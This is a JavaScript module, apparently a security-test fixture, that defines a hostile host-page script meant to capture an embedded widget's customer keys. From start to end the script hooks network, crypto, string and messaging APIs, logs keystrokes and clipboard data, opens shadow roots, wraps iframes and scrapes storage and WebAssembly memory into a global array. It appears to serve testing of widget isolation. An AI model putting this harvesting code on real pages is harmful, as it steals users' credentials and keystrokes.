// A page that wants its customers' keys. It runs first, bends everything that a script can bend, and keeps what it sees
// in `loot`. `hostile` runs in the page; what it does later is in `globalThis.attack`.

/** The page's first script, before the widget's. */
export const FIRST = `<script>(${hostile})()</script>`;

function hostile() {
  const loot = (globalThis.loot = []);
  const { stringify } = JSON;
  const { push, join } = Array.prototype;
  const seen = new Set();
  const keepText = (text) => {
    if (seen.has(text)) return;
    seen.add(text);
    push.call(loot, text);
  };
  globalThis.booty = () => join.call(loot, '\n');
  const define = Object.defineProperty;
  const decoder = new TextDecoder();
  const bytesOf = (view) => (ArrayBuffer.isView(view) ? new Uint8Array(view.buffer, view.byteOffset, view.byteLength) : view instanceof ArrayBuffer ? new Uint8Array(view) : undefined);
  let busy = false;
  /** Keeps whatever it is given, as text. */
  const take = (from, ...values) => {
    if (busy) return;
    busy = true;
    try {
      for (const value of values) {
        const bytes = bytesOf(value);
        let text = '';
        // Of a memory, what somebody could read.
        if (bytes) text = join.call(decoder.decode(bytes).match(/[\x20-\x7e]{8,}/g) ?? [], ' ');
        else if (typeof value === 'object' && value !== null) {
          try {
            text = stringify(value) ?? '';
          } catch {
            text = String(value);
          }
        } else text = String(value);
        keepText(`${from} ${text}`);
      }
    } finally {
      busy = false;
    }
  };
  globalThis.take = take;
  /** Listens in on a function. */
  const tap = (object, name, more) => {
    const original = object?.[name];
    if (typeof original !== 'function') return;
    object[name] = function (...args) {
      take(name, ...args);
      if (typeof this === 'string' || this instanceof String) take(name, String(this));
      more?.(...args);
      return original.apply(this, args);
    };
  };

  // What leaves the page.
  for (const [object, name] of [
    [globalThis, 'fetch'], [XMLHttpRequest.prototype, 'open'], [XMLHttpRequest.prototype, 'send'], [XMLHttpRequest.prototype, 'setRequestHeader'],
    [WebSocket.prototype, 'send'], [navigator, 'sendBeacon'], [JSON, 'stringify'], [JSON, 'parse'],
    [TextEncoder.prototype, 'encode'], [TextEncoder.prototype, 'encodeInto'], [TextDecoder.prototype, 'decode'],
    [Array.prototype, 'push'], [Array.prototype, 'map'], [Array.prototype, 'join'], [Uint8Array.prototype.__proto__, 'set'],
    [globalThis, 'btoa'], [globalThis, 'structuredClone'], [console, 'log'], [Object, 'assign'], [Object, 'entries'], [Promise, 'resolve'],
    [Storage.prototype, 'setItem'], [history, 'pushState'], [Element.prototype, 'setAttribute'], [Node.prototype, 'appendChild'],
  ]) tap(object, name);
  for (const name of ['trim', 'replace', 'replaceAll', 'slice', 'split', 'startsWith', 'toLowerCase', 'charCodeAt']) tap(String.prototype, name);
  for (const name of ['digest', 'encrypt', 'importKey', 'deriveBits', 'sign']) tap(SubtleCrypto.prototype, name);
  tap(Crypto.prototype, 'getRandomValues');
  for (const [prototype, name] of [[HTMLInputElement.prototype, 'value'], [CharacterData.prototype, 'data'], [MessageEvent.prototype, 'data'], [Response.prototype, 'body']]) {
    const { get, set, ...rest } = Object.getOwnPropertyDescriptor(prototype, name);
    define(prototype, name, {
      ...rest,
      get() {
        const value = get.call(this);
        take(name, value);
        return value;
      },
      set(value) {
        take(name, value);
        set?.call(this, value);
      },
    });
  }
  for (const name of ['key', 'providerKey', 'secret', 'token', 'held', 'text']) {
    define(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        take(`Object.prototype.${name}`, value);
        define(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }

  // WebAssembly, and what is in its memory.
  const memories = [];
  for (const name of ['compile', 'instantiate']) {
    const original = WebAssembly[name];
    WebAssembly[name] = async function (...args) {
      const made = await original.apply(this, args);
      keep(made.instance ?? made);
      return made;
    };
  }
  const keep = ({ exports = {} }) => Object.values(exports).forEach((value) => value instanceof WebAssembly.Memory && push.call(memories, value));
  const { Instance } = WebAssembly;
  WebAssembly.Instance = function (...args) {
    const made = new Instance(...args);
    keep(made);
    return made;
  };

  // What is said between windows.
  const ports = (globalThis.ports = []);
  const steal = (port) => {
    if (ports.includes(port)) return;
    push.call(ports, port);
    listen.call(port, 'message', (event) => take('port', dataOf.call(event)));
  };
  const listen = EventTarget.prototype.addEventListener;
  const dataOf = (() => {
    const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
    return get;
  })();
  const Channel = MessageChannel;
  globalThis.MessageChannel = function () {
    const channel = new Channel();
    steal(channel.port1);
    return channel;
  };
  const post = MessagePort.prototype.postMessage;
  globalThis.say = (port, message) => post.call(port, message);
  MessagePort.prototype.postMessage = function (...args) {
    take('port.postMessage', ...args);
    steal(this);
    return post.apply(this, args);
  };
  EventTarget.prototype.addEventListener = function (type, listener, ...more) {
    const heard = typeof listener === 'function' ? function (event) {
      spy(event);
      return listener.call(this, event);
    } : listener;
    return listen.call(this, type, heard, ...more);
  };
  const strokes = new WeakSet();
  const spy = (event) => {
    const { type, key, data, target, clipboardData, dataTransfer } = event;
    const inner = event.composedPath()[0];
    take(`event ${type}`, key, data, target?.value, inner?.value, clipboardData?.getData('text'), dataTransfer?.getData('text'));
    if (type === 'keydown' && key.length === 1 && !strokes.has(event)) globalThis.typed = (globalThis.typed ?? '') + key;
    strokes.add(event);
  };
  const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut', 'drop', 'dragstart', 'compositionend', 'selectionchange', 'focusin', 'pointerdown', 'message'];
  for (const type of types) listen.call(globalThis, type, spy, true);

  // The tree, and shadow trees too.
  const roots = [document];
  const watch = (root) => new MutationObserver((records) => {
    for (const { target, addedNodes, oldValue } of records) take('mutation', target.outerHTML ?? target.data, oldValue, ...[...addedNodes].map((node) => node.outerHTML ?? node.data));
  }).observe(root, { subtree: true, childList: true, attributes: true, attributeOldValue: true, characterData: true, characterDataOldValue: true });
  watch(document);
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    push.call(roots, root);
    watch(root);
    return root;
  };

  // The frame's own window, between it and the widget.
  const frames_ = (globalThis.taken = new Set());
  for (const name of ['contentWindow', 'contentDocument']) {
    const { get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, name);
    define(HTMLIFrameElement.prototype, name, {
      configurable: true,
      get() {
        const found = get.call(this);
        if (name === 'contentDocument' || !found) return found;
        frames_.add(found);
        return {
          postMessage(...args) {
            take('window.postMessage', ...args);
            found.postMessage(...args);
          },
        };
      },
    });
  }

  /** Looks at all that there is to look at. */
  const sweep = () => {
    for (const root of roots) {
      for (const node of root.querySelectorAll('*')) {
        take('node', node.value, node.contentDocument?.documentElement.outerHTML);
        if (node.shadowRoot && !roots.includes(node.shadowRoot)) push.call(roots, node.shadowRoot);
      }
      take('tree', root.innerHTML ?? root.documentElement.outerHTML);
      take('focus', root.activeElement?.value);
    }
    for (const inner of frames_) {
      for (const look of [() => inner.document.documentElement.outerHTML, () => inner.location.href, () => inner.name, () => inner.getSelection().toString(), () => inner.length, () => inner.byo]) {
        try {
          take('frame', look());
        } catch (refusal) {
          keepText(`kept out: ${refusal.name}`);
        }
      }
    }
    for (const { buffer } of memories) take('memory', new Uint8Array(buffer));
    take('timeline', ...performance.getEntries().map((entry) => stringify(entry)));
    take('page', location.href, history.length, String(getSelection()), document.title, globalThis.typed ?? '');
    for (const store of [localStorage, sessionStorage]) take('store', { ...store });
  };
  globalThis.sweep = sweep;
  setInterval(sweep, 50);
}
